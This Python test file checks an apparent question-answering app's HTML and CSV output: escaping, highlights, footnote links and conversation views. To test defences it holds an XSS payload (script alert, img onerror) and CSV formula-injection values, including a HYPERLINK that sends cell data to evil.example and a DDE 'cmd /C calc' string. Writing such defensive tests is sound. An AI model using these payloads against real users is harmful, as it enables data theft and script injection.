"""HTML rendering: escaping, highlight, markers and notes, from the Answer's offsets."""

from __future__ import annotations

from html import escape

import pytest

from qa.models import Answer, AnswerPassage, Citation, Highlight, Marker
from qa.render import format_pages, render_answer, render_passage_text

EVIL = '<script>alert(1)</script><img src=x onerror="alert(2)">'


def passage(text, hl, markers=(), citations=(), title="T", pages=(1,)):
    a, b = hl
    return AnswerPassage(
        rank=1, passage_id="d#0", score=0.6, document="d", title=title, pages=list(pages), char_start=0,
        char_end=len(text), line_start=1, line_end=1, text=text, highlight=Highlight(start=a, end=b, text=text[a:b]),
        markers=[Marker(label=lab, offset=o) for lab, o in markers], citations=list(citations),
    )


def test_highlight_and_marker_positions():
    p = passage("First one. Second one. Third.", (11, 22), markers=[("3", 22), ("4", 10)])
    assert render_passage_text(p) == (
        'First one.<sup class="qa-marker" title="note 4">4</sup> <mark class="qa-highlight">Second one.</mark>'
        '<sup class="qa-marker" title="note 3">3</sup> Third.'
    )


def test_hostile_text_is_escaped_everywhere():
    text = f"Hello {EVIL} world."
    p = passage(text, (0, len(text)), markers=[("<b>", 5)],
                citations=[Citation(label="<b>", text=EVIL, source=EVIL)], title=EVIL)
    a = Answer(question=EVIL, answered=False, passages=[p], took_ms=1.0, message=EVIL)
    html = render_answer(a)
    assert "<script>" not in html and "<img" not in html and "<b>" not in html
    assert "&lt;script&gt;" in html and "onerror=&quot;" in html


def test_missing_note_and_idem_source_are_shown():
    p = passage("A sentence.", (0, 11), markers=[("5", 11), ("14", 11)], citations=[
        Citation(label="5", text="Idem, page 73.", source="Military Secret, page 73."),
        Citation(label="14", text=None, missing=True)])
    html = render_answer(Answer(question="q", answered=True, passages=[p], took_ms=1.0))
    assert "Idem, page 73." in html and "→ Military Secret, page 73." in html
    assert 'class="qa-missing"' in html
    assert 'class="qa-noanswer"' not in html


def test_no_answer_notice_differs_from_an_answer():
    p = passage("x y.", (0, 4))
    no = render_answer(Answer(question="q", answered=False, passages=[p], took_ms=1.0, message="not answered"))
    yes = render_answer(Answer(question="q", answered=True, passages=[p], took_ms=1.0))
    assert 'class="qa-noanswer"' in no and "qa-unanswered" in no and "qa-noanswer" not in yes


def test_pages():
    assert format_pages([2]) == "p. 2" and format_pages([2, 3]) == "pp. 2–3" and format_pages([]) == ""


def test_real_answer_renders(essay_engine):
    a = essay_engine.ask("Who designed the Plan Z-4?")
    html = render_answer(a)
    assert html.count('<article class="qa-passage') == 5 and html.count('<article class="qa-passage qa-best"') == 1
    assert '<mark class="qa-highlight">' in html and 'title="note 1"' in html


def test_report_is_self_contained_escaped_and_misses_first():
    from qa.evaluation.questions import EvalQuestion
    from qa.evaluation.runs import results_csv
    from qa.report import results_html

    good = passage("Right answer here.", (0, 18))
    q1 = EvalQuestion(id="ok", question="fine?", evidence=["Right answer here."], line=1)
    q2 = EvalQuestion(id="bad", question=EVIL, evidence=["elsewhere entirely"], line=2)
    a1 = Answer(question="fine?", answered=True, passages=[good], took_ms=1.0)
    a2 = Answer(question=EVIL, answered=True, passages=[good], took_ms=1.0)
    v1 = {"rank": 1, "highlight_ok": True, "citation_ok": None, "answered": True, "answerable": True}
    v2 = {"rank": None, "highlight_ok": False, "citation_ok": None, "answered": True, "answerable": True}
    html = results_html([q1, q2], [a1, a2], [v1, v2], {"hit@1": 0.5})
    assert "<script>" not in html and "<img" not in html
    assert html.index("bad:") < html.index("ok:")  # the miss comes first
    assert "http" not in html and "<link" not in html  # nothing loaded from elsewhere
    assert results_csv([q1, q2], [a1, a2], [v1, v2]).splitlines()[1].startswith("ok,fine?,true,1,true")


# --------------------------------------------------------------------------- page-level views

from html.parser import HTMLParser  # noqa: E402

from hypothesis import example, given  # noqa: E402
from hypothesis import strategies as st  # noqa: E402

from qa.render import context_href, markup, render_conversation  # noqa: E402
from qa.render_context import render_document  # noqa: E402

VOID = {"meta", "br", "img", "link"}


class _Checker(HTMLParser):
    """Collects text and checks that every tag closes in order."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.stack, self.text, self.ok = [], [], True

    def handle_starttag(self, tag, attrs):
        if tag not in VOID:
            self.stack.append(tag)

    def handle_endtag(self, tag):
        if not self.stack or self.stack.pop() != tag:
            self.ok = False

    def handle_data(self, data):
        self.text.append(data)


def check(html: str) -> str:
    c = _Checker()
    c.feed(html)
    c.close()
    assert c.ok and not c.stack, html
    return "".join(c.text)


@given(
    st.text(alphabet="ab <>&\"'.", max_size=30),
    st.lists(st.tuples(st.integers(-3, 33), st.integers(-3, 33)), max_size=3),
    st.lists(st.integers(-3, 33), max_size=3),
)
@example("", [(0, 0)], [0])
def test_markup_nests_and_keeps_every_character(text, spans, points):
    ranges = [(a, b, f'<span class="r{i}">', "</span>") for i, (a, b) in enumerate(spans)]
    html = markup(text, ranges, [(o, "<sup>*</sup>") for o in points])
    got = check(html)
    assert got.replace("*", "") == text.replace("*", "")


def test_document_view_marks_passage_across_paragraphs(essay_doc):
    doc = essay_doc
    body = [p for p in doc.paragraphs if p.kind == "body"]
    start, end = body[2].start + 10, body[3].start + 30  # from inside one paragraph into the next
    html = render_document(doc, start=start, end=end, hl_start=start + 5, hl_end=start + 40)
    text = check(html)
    assert html.count('id="passage"') == 1
    assert html.count('class="qa-in-passage"') >= 2  # one stretch per paragraph
    assert f'<mark class="qa-highlight">{doc.text[start + 5:start + 40]}</mark>' in html
    # every marker links to its note, every note is there, numbered, and leads back to its marker
    for j, m in enumerate(doc.markers):
        assert f'<sup class="qa-marker" id="ref-{j}"><a href="#note-{m.label}" aria-label="Note {m.label}">' in html
    for note in doc.footnotes:
        assert f'id="note-{note.label}"' in html
        if not note.missing:
            assert f'id="note-{note.label}"><span class="qa-note-label">{note.label}</span> ' in html
    five = next(f for f in doc.footnotes if f.label == "5")  # "Idem, page 73.": its source is shown with it
    assert five.refers_to == "4" and five.source
    assert f'(the source of note 4: {escape(five.source)})' in html
    assert html.count('class="qa-backref"') == len({m.label for m in doc.markers})
    # the header says where the passage is and leads back
    assert f"— the passage is on {format_pages(doc.labels_between(start, end))}, marked below" in html
    assert 'class="qa-back" href="/">← Ask a question about the reading</a>' in html
    # page breaks are shown and no character of the clean text is lost
    assert html.count('class="qa-pagebreak"') == len(doc.pages) - 1
    for p in doc.paragraphs:
        assert doc.text[p.start:p.end][:60] in text


def test_document_view_escapes_hostile_reading(tmp_path):
    from qa.reading.corpus import read_document

    src = tmp_path / "evil.md"
    src.write_text(f"# {EVIL}\n\nBody {EVIL} text.[^1]\n\n[^1]: {EVIL}\n", encoding="utf-8")
    doc = read_document(src)
    html = render_document(doc, start=0, end=len(doc.text), hl_start=0, hl_end=5, css="")
    assert "<script>" not in html and "<img" not in html
    assert check(html).count("<script>alert(1)</script>") == 5  # <title>, the header, heading, body, note


def test_conversation_latest_first_and_share_link():
    p1 = passage("One answer.", (0, 11))
    a1 = Answer(question="first & <b>?", answered=True, passages=[p1], took_ms=1.0)
    a2 = Answer(question="second?", answered=True, passages=[p1], took_ms=1.0)
    html = render_conversation([a1, a2], share_base="/", context_base="/context")
    check(html)
    assert html.index("second?") < html.index("first &amp; &lt;b&gt;?")
    assert html.count('<details class="qa-earlier">') == 1
    assert 'href="/?q=first+%26+%3Cb%3E%3F"' in html
    assert f'href="{context_href(p1, "/context", "first & <b>?").replace("&", "&amp;")}"' in html  # the question rides along
    assert "Ask a question" in render_conversation([])


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_results_csv_cells_never_start_a_formula(start):
    """A question or id like =HYPERLINK(...) reaches the CSV as text, not as a formula (OWASP)."""
    import csv
    import io

    from qa.evaluation.questions import EvalQuestion
    from qa.evaluation.runs import results_csv

    evil = f'{start}HYPERLINK("http://evil.example/?leak="&A1,"click")'
    good = passage(f"{start}1+2 begins this passage.", (0, 10))
    q = EvalQuestion(id=f"{start}cmd|' /C calc'!A0", question=evil, evidence=["nothing"], line=1)
    a = Answer(question=evil, answered=True, passages=[good], took_ms=1.0)
    v = {"rank": None, "highlight_ok": False, "citation_ok": None, "answered": True, "answerable": True}
    rows = list(csv.reader(io.StringIO(results_csv([q], [a], [v]), newline="")))
    cells = [c for c in rows[1] if c]
    assert cells and all(not c.startswith(("=", "+", "-", "@", "\t", "\r")) for c in cells), cells
    assert rows[1][1] == "'" + evil  # the text itself is kept, behind an apostrophe
    assert float(rows[1][rows[0].index("took_ms")]) == 1.0  # numbers stay numbers


def test_one_clear_answer_then_further_evidence_and_weak_passages_marked_faintly():
    strong = passage("Belgrade is the capital.", (0, 24))
    weak = passage("Serbs could be scattered worldwide.", (0, 35)).model_copy(update={"rank": 2, "score": 0.12})
    html = render_answer(Answer(question="q", answered=True, passages=[strong, weak], took_ms=1.0))
    check(html)
    assert html.count('class="qa-passage qa-best"') == 1 and html.index("qa-best") < html.index("Further evidence")
    assert '<span class="qa-best-label">Answer</span>' in html and 'aria-label="The answer, p. 1"' in html
    # the weak one is further evidence, its sentence marked faintly, not like the answer
    further = html[html.index('<section class="qa-further"'):]
    assert 'class="qa-passage qa-weak-passage"' in further
    assert '<mark class="qa-highlight qa-weak">Serbs could be scattered worldwide.</mark>' in further
    assert '<mark class="qa-highlight">Belgrade is the capital.</mark>' in html
    # not answered: no card is "the answer"; they are the closest passages
    none = render_answer(Answer(question="q", answered=False, passages=[weak], took_ms=1.0))
    assert "qa-best" not in none and "The closest passages" in none and "qa-weak" in none
